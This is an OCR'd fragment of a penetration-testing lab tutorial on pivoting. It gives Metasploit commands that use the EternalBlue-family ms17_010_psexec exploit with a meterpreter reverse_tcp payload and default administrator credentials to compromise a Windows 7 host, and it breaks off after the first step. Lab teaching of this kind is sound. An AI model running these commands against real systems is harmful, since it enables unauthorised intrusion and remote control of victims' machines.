M13L2: Pivoting Continue

Requirements for this test Metasploit Windows 7 Linux Ubuntu The first thing we have to do is commit a host with the following exploit msfconsole -q use exploit/windows/smb/ms17_010_psexec set RHOST set payload windows/x64/meterpreter/reverse_tcp set LHOST set SMBUser administrator set SMBPass password exploit with this exploit we will get the meterpretersession as shown […]